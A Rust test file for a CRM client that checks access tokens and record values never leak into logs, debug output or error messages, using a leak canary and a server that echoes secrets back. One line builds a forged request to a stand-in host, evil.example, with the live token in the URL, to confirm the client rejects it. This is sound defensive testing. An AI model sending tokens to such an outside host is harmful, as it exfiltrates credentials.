//! Nothing that a client says about its work contains a token or a body.
//!
//! This test is alone in its process: others would decide with it which events are of interest.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on may panic")]

#[path = "crm/setup.rs"]
#[expect(dead_code, reason = "it is for other tests too")]
mod setup;

use serde_json::json;
use tokenkeep_crm::{CrmErrorKind, Method};
use tokenkeep_testkit::LeakCanary;

use self::setup::{Setup, shown};

#[tokio::test]
async fn no_secret_is_in_a_log_or_an_error() {
    let setup = Setup::new().await;
    let canary = LeakCanary::new();
    let value = canary.mark("value");
    let mut watched = 0;
    let mut watch = async || {
        let live = setup.handle.access_token().await.unwrap();
        canary.watch(&format!("access-{watched}"), live.access_token().expose_secret());
        watched += 1;
        live
    };
    let guard = tracing::subscriber::set_default(canary.subscriber());

    let token = watch().await.access_token().expose_secret().to_owned();
    let leads = setup.crm.records("Leads");
    let created = leads.create(&[json!({ "Last_Name": value })]).await.unwrap();
    assert!(created[0].status.is_success());
    setup.emulator.expire_access_tokens();
    let search = setup.crm.request(Method::GET, "Leads/search").query(&[("word", &value)]);
    canary.capture(&format!("{search:?}"));
    canary.capture(&format!("{:?}", search.send().await.unwrap()));
    watch().await;

    // A server that echoes what it was sent.
    for (status, body) in [
        (400, json!({ "code": value, "message": value, "details": { "api_name": value } })),
        (401, json!({ "code": token, "message": token })),
        (403, json!({ "code": "NO_PERMISSION", "details": { "api_name": token } })),
        (500, json!([token, value])),
        (200, json!({ "data": token })),
        (200, json!({ "code": token, "data": [{ "id": token }] })),
    ] {
        setup.answers("/crm/*", &[(status, &body.to_string())]);
        if let Err(error) = leads.create(&[json!({ "Last_Name": value })]).await {
            canary.capture(&shown(&error));
        }
        setup.answers("/crm/*", &[(status, &body.to_string())]);
        if let Err(error) = leads.count().await {
            canary.capture(&shown(&error));
        }
    }
    let forged = format!("https://evil.example/{token}?x={value}");
    let error = setup.crm.request(Method::GET, &forged).send().await.unwrap_err();
    assert_eq!(error.kind(), CrmErrorKind::Invalid);
    canary.capture(&shown(&error));
    canary.capture(&format!("{:?}", setup.crm));

    drop(guard);
    let captured = canary.captured();
    for word in ["crm_request", "/crm/v8/Leads", "attempt", "status"] {
        assert!(captured.contains(word), "{word} is not logged");
    }
    canary.assert_clean([""; 0]);
}
